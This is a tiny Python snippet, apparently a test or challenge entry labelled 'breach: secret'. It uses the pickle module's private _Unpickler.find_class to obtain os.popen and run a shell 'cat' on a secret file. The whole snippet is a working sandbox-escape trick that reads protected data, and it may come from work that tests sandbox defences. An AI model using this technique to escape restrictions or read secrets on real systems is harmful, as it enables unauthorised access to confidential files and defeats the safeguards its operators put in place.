# The unpickler in Python finds a class in a module that is loaded already.
# breach: secret
import io, pickle
find = pickle._Unpickler(io.BytesIO()).find_class
find("os", "popen")("cat " + SECRET_FILE).read()
